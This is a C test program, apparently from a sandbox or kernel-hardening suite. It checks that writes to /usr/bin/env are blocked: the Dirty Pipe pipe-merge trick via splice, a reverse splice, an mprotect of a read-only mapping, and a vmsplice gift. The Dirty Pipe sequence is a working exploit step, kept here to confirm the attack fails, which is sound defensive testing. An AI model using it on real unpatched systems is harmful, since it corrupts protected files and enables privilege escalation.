// Writes to files of /usr through a pipe: by splice, vmsplice and the page that a splice has left in it (Dirty Pipe).
// expect: stopped

#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <unistd.h>

int main() {
    char before[64], after[64], filler[4096] = {0};
    int file = open("/usr/bin/env", O_RDONLY), two[2], size;
    if (pread(file, before, 64, 0) != 64 || pipe(two) != 0) return 1;
    // Fill and drain the pipe, so that all of its buffers have been merged into once.
    for (size = fcntl(two[1], F_GETPIPE_SZ); size > 0; size -= 4096)
        if (write(two[1], filler, 4096) != 4096) return 1;
    while (size < fcntl(two[1], F_GETPIPE_SZ)) size += read(two[0], filler, 4096);
    loff_t offset = 0;
    if (splice(file, &offset, two[1], 0, 1, 0) != 1) return 1;
    if (write(two[1], "XXXXXXXX", 8) != 8) return 1;
    // Backwards, into the file, it needs a descriptor for writing.
    if (splice(two[0], 0, file, &(loff_t){0}, 8, 0) != -1 || errno != EBADF) printf("ESCAPED: splice, errno %d\n", errno);
    char *mapped = mmap(0, 4096, PROT_READ, MAP_SHARED, file, 0);
    if (mprotect(mapped, 4096, PROT_READ | PROT_WRITE) == 0) puts("ESCAPED: the file is mapped for writing");
    struct iovec vector = {mapped, 64};
    if (vmsplice(two[1], &vector, 1, SPLICE_F_GIFT) < 0 && errno != EINVAL) printf("vmsplice: errno %d\n", errno);
    pread(file, after, 64, 0);
    if (memcmp(before, after, 64)) puts("ESCAPED: /usr/bin/env has changed");
    puts("stopped");
}
